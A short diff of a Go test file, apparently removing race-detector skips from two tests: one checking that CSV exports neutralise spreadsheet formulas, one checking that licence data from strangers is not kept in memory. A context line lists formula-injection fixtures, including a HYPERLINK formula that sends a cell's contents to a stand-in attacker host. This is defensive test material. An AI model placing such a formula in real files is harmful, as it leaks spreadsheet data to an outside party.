@@ -21,7 +21,6 @@ var formulas = []string{`=HYPERLINK("https://evil.example/?"&A1,"PyTorch")`, "+1
 // TestFormulasInCSV: no cell in CSV for spreadsheets is a formula, and all strings are unchanged
 // in CSV for programs.
 func TestFormulasInCSV(t *testing.T) {
-	suite.WithoutRace(t)
 	content, dir := t.TempDir(), t.TempDir()
 	writeContent(t, content, 3, 0)
 	for i, name := range formulas {
@@ -79,7 +78,6 @@ func texts(t *testing.T, a answer) []string {
 // TestMemoryOfLicences: licences sent by strangers are not kept in memory.
 func TestMemoryOfLicences(t *testing.T) {
 	suite.InTest(t)
-	suite.WithoutRace(t)
 	const n = 1000
 	h := serveFew(t, Options{LimitKey: 100_000})
 	key, _ := h.keyOf(t, "account")
